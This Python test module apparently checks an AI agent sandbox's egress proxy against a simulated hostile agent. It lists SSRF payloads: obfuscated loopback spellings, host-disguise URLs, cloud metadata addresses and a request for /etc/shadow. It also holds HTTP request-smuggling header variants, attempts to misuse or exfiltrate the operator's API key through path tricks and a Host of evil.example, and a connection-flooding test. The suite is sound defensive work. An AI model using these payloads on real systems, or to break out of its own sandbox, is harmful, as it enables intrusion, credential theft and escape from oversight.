"""Persuading the daemon's proxy and its gateway."""

from __future__ import annotations

from functools import partial

from tests.fakes.hostile_agent.trial import Room, Trial, unix, until_closed

ROOM = Room("The proxy")
EGRESS = "/run/hive/egress.sock"
LOOPBACK = (
    "127.0.0.1",
    "127.1",
    "127.0.0.1.",
    "127.255.255.254",
    "localhost",
    "localhost.",
    "LOCALHOST",
    "a.localhost",
    "ip6-localhost",
    "2130706433",
    "017700000001",
    "0177.0.0.1",
    "0x7f.0.0.1",
    "0x7f000001",
    "0",
    "0.0.0.0",
    "[::]",
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "[::1%lo]",
    "①②⑦.⓪.⓪.①",
    "127。0。0。1",
)
"""The host's loopback, spelled so that a careless reader takes it for something else."""
DISGUISED = (
    "api.anthropic.com@127.0.0.1",
    "api.anthropic.com:443@127.0.0.1",
    "api.anthropic.com#@127.0.0.1",
    "api.anthropic.com/@127.0.0.1",
    "api.anthropic.com%2f@127.0.0.1",
    "127.0.0.1%00.api.anthropic.com",
    "127.0.0.1%2eapi.anthropic.com",
    "127.0.0.1\\.api.anthropic.com",
    "api.anthropic.com.127.0.0.1.nip.io",
    "127.0.0.1 api.anthropic.com",
    "api.anthropic.com\t127.0.0.1",
    "evil-api.anthropic.com",
    "api.anthropic.com.evil.example",
)
REFUSALS = (b"400", b"403", b"404", b"431", b"502")
SHORT_S = 0.3
METADATA = ("169.254.169.254", "2852039166", "[::ffff:a9fe:a9fe]", "metadata.google.internal")


def ask(data: bytes, timeout_s: float = 20.0) -> bytes:
    """Say something to the proxy; return all that comes back until it closes or falls silent."""
    with unix(EGRESS, timeout_s) as sock:
        sock.sendall(data)
        return until_closed(sock)


def _refused(trial: Trial, what: str, data: bytes, *, is_whole: bool = True) -> None:
    """Make a request that must be refused; one that is not whole is perhaps not answered."""
    try:
        said = ask(data) if is_whole else ask(data, SHORT_S)
    except OSError as error:
        trial.fails(what, partial(_again, error))
        return
    trial.looked(what, said)
    word = said.partition(b"\r\n")[0].split(b" ")[1:2]
    is_no = word[0] in REFUSALS if word else not (said or is_whole)
    trial.holds(what, is_no, said[:100])


def _again(error: OSError) -> None:
    raise error


def _connect(host: str, port: int) -> bytes:
    target = f"{host}:{port}".encode()
    return b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\nhello"


def _get(host: str, port: int) -> bytes:
    url = f"http://{host}:{port}/secret".encode()
    return b"GET " + url + b" HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n"


@ROOM.attempt(
    "loopback by other spellings",
    "the proxy knows names and addresses in one spelling, and looks at the address it connects to",
)
def spellings(trial: Trial) -> None:
    """Ask for a tunnel to the host's loopback, and for a page of it, in decimal, octal, IPv6..."""
    for host in LOOPBACK:
        _refused(trial, f"tunnel to {host}", _connect(host, trial.ground["closed"]))
        _refused(trial, f"page of {host}", _get(host, trial.ground["closed"]))


@ROOM.attempt("a name in front of another", "a target is a host and a port, and nothing else")
def disguises(trial: Trial) -> None:
    """Dress the host's loopback up as an allowed host: a user's name, a fragment, a NUL."""
    for host in DISGUISED:
        _refused(trial, f"tunnel to {host}", _connect(host, trial.ground["closed"]))
        _refused(trial, f"page of {host}", _get(host, trial.ground["closed"]))


@ROOM.attempt(
    "listed names that lead inside",
    "each address of a name is looked at, and a private one must be listed itself",
)
def private_names(trial: Trial) -> None:
    """Ask for a name that is allowed and resolves to an address of the host."""
    for name in trial.ground["names"]:
        _refused(trial, f"tunnel to {name}", _connect(name, trial.ground["closed"]))
        _refused(trial, f"page of {name}", _get(name, trial.ground["closed"]))


@ROOM.attempt("the proxy as a way to metadata", "nothing is connected to that is not listed")
def metadata(trial: Trial) -> None:
    """Ask for a cloud's metadata, for the dashboard and for the proxy itself."""
    for host in METADATA:
        _refused(trial, f"tunnel to {host}", _connect(host, 80))
        _refused(trial, f"page of {host}", _get(host, 80))
    for port in (trial.ground["dashboard"], 3128, 53, 25, 0, 65536, 99999999999):
        _refused(trial, f"port {port}", _connect("127.0.0.1", port))
    _refused(trial, "an allowed host's other port", _connect("api.anthropic.com", 22))


@ROOM.attempt("requests that are none", "a strict parser: what is not plainly a request is refused")
def malformed(trial: Trial) -> None:
    """Send odd methods, versions, targets and headers, and other protocols altogether."""
    at = f"127.0.0.1:{trial.ground['closed']}".encode()
    head = b" HTTP/1.1\r\nHost: x\r\n\r\n"
    for data in (
        b"CONNECT " + at + b" HTTP/1.0\r\n\r\n",
        b"connect " + at + head,
        b"CONNECT  " + at + head,
        b"CONNECT http://" + at + b"/" + head,
        b"CONNECT /" + head,
        b"CONNECT " + at + b"\nHost: x\n\n",
        b"CONNECT " + at + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello",
        b"CONNECT " + at + b" HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET https://" + at + b"/" + head,
        b"GET ftp://" + at + b"/" + head,
        b"GET file:///etc/shadow" + head,
        b"GET unix:/run/host.sock:/" + head,
        b"GET http:\\\\" + at + b"/" + head,
        b"GET http:" + at + b"/" + head,
        b"GET http:///" + head,
        b"GET http://user:word@" + at + b"/" + head,
        b"GET http://" + at + b"/a b" + head,
        b"GET http://" + at + b"/#x" + head,
        b"GET http://" + at + b"/ HTTP/2.0\r\nHost: x\r\n\r\n",
        b"GET http://" + at + b"/\r\n\r\n",
        b"OPTIONS *" + head,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64),
        b"\x05\x01\x00",
        b"\x04\x01" + bytes(8),
        b"\r\n" * 2000,
        b"GET " + b"/" * 70_000 + head,
        b"GET http://" + at + b"/ HTTP/1.1\r\n" + b"X: y\r\n" * 20_000 + b"\r\n",
        b"A" * 200_000,
    ):
        _refused(trial, repr(data[:60]), data, is_whole=False)


@ROOM.attempt(
    "smuggling", "a request has one length, and is written anew from what was understood of it"
)
def smuggling(trial: Trial) -> None:
    """Hide a second request in the body of one to an allowed host: both lengths, odd codings."""
    for host in (f"http://127.0.0.1:{trial.ground['allowed']}", ""):
        for odd in (
            b"Content-Length: 6\r\nTransfer-Encoding: chunked",
            b"Transfer-Encoding: chunked\r\nContent-Length: 6",
            b"Content-Length: 6\r\nContent-Length: 7",
            b"Content-Length: 6, 6",
            b"Content-Length: +6",
            b"Content-Length: 0x6",
            b"Content-Length: -6",
            b"Content-Length : 0",
            b"Transfer-Encoding: chunked, identity",
            b"Transfer-Encoding: identity, chunked",
            b"Transfer-Encoding: xchunked",
            b"Transfer-Encoding:\x0bchunked",
            b"Transfer-Encoding\x00: chunked",
            b"X: y\r\n Transfer-Encoding: chunked",
            b"X: y\rTransfer-Encoding: chunked",
            b"X: y\nTransfer-Encoding: chunked\n",
            b"Connection: content-length\r\nContent-Length: 6",
            b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
        ):
            inner = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\nX-Api-Key: "
            inner += trial.ground["placeholder"].encode() + b"\r\n\r\n"
            line = f"POST {host}/v1/odd HTTP/1.1\r\nHost: x\r\n".encode()
            try:
                said = ask(line + odd + b"\r\n\r\n" + inner, SHORT_S)
            except OSError:
                said = b""
            trial.looked(repr(odd), said)
    trial.done("whether anything arrived as a request of its own")


@ROOM.attempt(
    "redirects", "the proxy follows none; where one leads is asked for like anything else"
)
def redirects(trial: Trial) -> None:
    """Have an allowed host redirect to the host's loopback."""
    url = f"GET http://127.0.0.1:{trial.ground['allowed']}/redirect HTTP/1.1\r\nHost: x\r\n"
    said = ask(f"{url}Connection: close\r\n\r\n".encode())
    trial.holds("the redirect is passed on", b" 302 " in said.partition(b"\r\n")[0], said[:80])
    _refused(trial, "where it leads", _get("127.0.0.1", trial.ground["closed"]))


@ROOM.attempt(
    "the operator's secret",
    "a placeholder is replaced on the way to the API alone, for messages and models alone",
)
def secret(trial: Trial) -> None:
    """Spend hive's account at the gateway's other paths, or have the key sent elsewhere."""
    key = trial.ground["placeholder"].encode()
    for path in (
        b"/v1/files",
        b"/v1/organizations/api_keys",
        b"/v1/messages/batches",
        b"/v1/messages/../files",
        b"/v1/messages/..%2ffiles",
        b"/v1/messages%2f..%2ffiles",
        b"//127.0.0.1/v1/messages",
        b"/v1/messages;x",
        b"/v1/messages/count_tokens/x",
        b"/v1//messages",
        b"/V1/MESSAGES",
    ):
        for name in (b"X-Api-Key: ", b"Authorization: Bearer ", b"authorization:\tbearer  "):
            for verb in (b"POST ", b"GET ", b"DELETE ", b"PUT "):
                data = verb + path + b" HTTP/1.1\r\nHost: evil.example\r\n" + name + key
                _refused(trial, (verb + path).decode(), data + b"\r\nConnection: close\r\n\r\n")
    _elsewhere(trial, key)


def _elsewhere(trial: Trial, key: bytes) -> None:
    """Send what stands for the key to a host that shows what it got."""
    at = f"127.0.0.1:{trial.ground['allowed']}".encode()
    for data in (
        b"POST http://" + at + b"/v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n",
        b"GET http://" + at + b"/v1/models HTTP/1.1\r\nHost: x\r\nX-Forwarded-Host: api\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: " + at + b"\r\nX-Forwarded-Host: " + at + b"\r\n",
    ):
        said = ask(data + b"X-Api-Key: " + key + b"\r\nConnection: close\r\n\r\n")
        trial.looked(repr(data[:50]), said)


@ROOM.attempt(
    "holding the proxy up", "connections have a number and deadlines, of this agent alone"
)
def hold(trial: Trial) -> None:
    """Keep more connections with half a request open than one agent may, and answer nothing."""
    held = []
    try:
        for _ in range(100):
            sock = unix(EGRESS)
            held.append(sock)
            sock.sendall(b"GET http://127.0.0.1/ HTTP/1.1\r\nX: ")
        said = until_closed(held[-1], 1000)
        trial.holds("one too many", b" 503 " in said.partition(b"\r\n")[0], said[:60])
    except OSError as error:
        trial.fails("one too many", partial(_again, error))
    finally:
        for sock in held:
            sock.close()
